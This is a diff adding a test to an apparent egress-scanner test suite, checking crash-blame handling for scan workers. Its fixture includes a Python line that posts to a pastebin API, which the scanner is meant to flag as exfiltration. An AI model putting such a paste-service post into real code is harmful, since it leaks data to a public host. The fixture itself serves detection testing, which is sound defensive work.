@@ -179,6 +179,19 @@ describe('scanEgress', () => {
     }
   });
 
+  it('blames only the file that kills a worker again, never a file retried beside it (one worker: both retries meet on it)', async () => {
+    const crashing = new URL(import.meta.url.endsWith('.ts') ? './test-support/crashing-engine.ts' : './test-support/crashing-engine.js', import.meta.url).href;
+    const dir = await makeTempDir('cg-egress-crash1-');
+    try {
+      await writeTree(dir, { 'skills/poison/SKILL.md': SKILL('poison'), 'skills/poison/big.txt': `x\nCLAWGUARD-TEST-KILL-THE-SCAN-WORKER\n`, 'skills/poison/z.py': `requests.post("https://pastebin.com/api")\n` });
+      const r = await scanEgress({ workspace: dir, engineModule: crashing, workers: 1 });
+      assert.deepEqual(r.findings.filter((f) => f.ruleId === 'egress.unreadable-file').map((f) => f.location?.file), ['skills/poison/big.txt']);
+      assert.ok(ids(r, 'skills/poison/z.py').includes('exfil.paste-service'));
+    } finally {
+      await removeDir(dir);
+    }
+  });
+
   it('finds the host of a call whose URL argument starts on the next line (so the allowlist applies to it)', async () => {
     const dir = await makeTempDir('cg-egress-nextline-');
     try {
